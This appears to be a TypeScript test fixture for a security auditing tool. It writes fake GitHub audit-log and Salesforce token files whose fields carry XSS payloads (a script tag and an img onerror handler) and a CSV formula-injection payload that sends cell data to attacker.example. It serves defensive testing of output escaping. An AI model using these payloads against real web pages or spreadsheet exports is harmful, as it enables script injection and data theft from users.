import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Script and markup payloads planted in case data: the report must show them as text and never run them. */
export const payloads = {
  appName: `Evil App <script>document.title='pwned'</script>`,
  userAgent: `<img src=x onerror="document.title='pwned'">Mozilla/5.0`,
  /** Starts like a formula: CSV exports must neutralise it. */
  formulaApp: `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`,
};

/**
 * A GitHub audit-log stream where an existing fine-grained token (from sample-data/github) is
 * used from a new network with a hostile user agent, and Salesforce connected-app tokens whose
 * app names are payloads and that were last used long ago (stale). Both are formats the importer
 * recognises, so the payloads reach findings (new-user-agent, stale-credential) and the report.
 */
export function writeHostileEvidence(dir: string, tokenId = 232560660, hashedToken = 'J2HeFfOtZURZz2wNNiCIl2gBOjOMSqShppHfURC8pZg='): string[] {
  const audit = join(dir, 'github-audit-hostile.ndjson');
  const base = Date.parse('2026-11-19T03:00:00Z');
  const lines = Array.from({ length: 5 }, (_, i) =>
    JSON.stringify({
      '@timestamp': base + i * 60_000,
      _document_id: `hostile-${i}`,
      action: 'git.clone',
      actor: 'nw-argocd',
      actor_id: 171205310,
      actor_ip: '203.0.113.66',
      actor_location: { country_code: 'KP' },
      business: 'northwind-logistics',
      created_at: base + i * 60_000,
      hashed_token: hashedToken,
      org: 'northwind-logistics',
      programmatic_access_type: 'Fine-grained personal access token',
      repo: 'northwind-logistics/platform-helm',
      repository: 'northwind-logistics/platform-helm',
      token_id: tokenId,
      transport_protocol_name: 'http',
      user_agent: payloads.userAgent,
    }),
  );
  writeFileSync(audit, lines.join('\n') + '\n');
  // Salesforce connected-app tokens: the app name becomes the credential's name ("<app> user tokens").
  const sf = join(dir, 'OauthToken-hostile.json');
  const token = (id: string, app: string) => ({
    attributes: { type: 'OauthToken', url: `/services/data/v62.0/sobjects/OauthToken/${id}` },
    Id: id,
    AppName: app,
    AppMenuItemId: '0DSHs0000hostile',
    UserId: '005Hs00000d8SItZUC',
    CreatedDate: '2024-01-06T14:00:00.000+0000',
    LastUsedDate: '2025-02-18T15:42:18.860+0000',
    UseCount: 12,
  });
  writeFileSync(sf, JSON.stringify({ totalSize: 2, done: true, records: [token('0CQHs0000HOSTIL01', payloads.appName), token('0CQHs0000HOSTIL02', payloads.formulaApp)] }, null, 2));
  return [audit, sf];
}
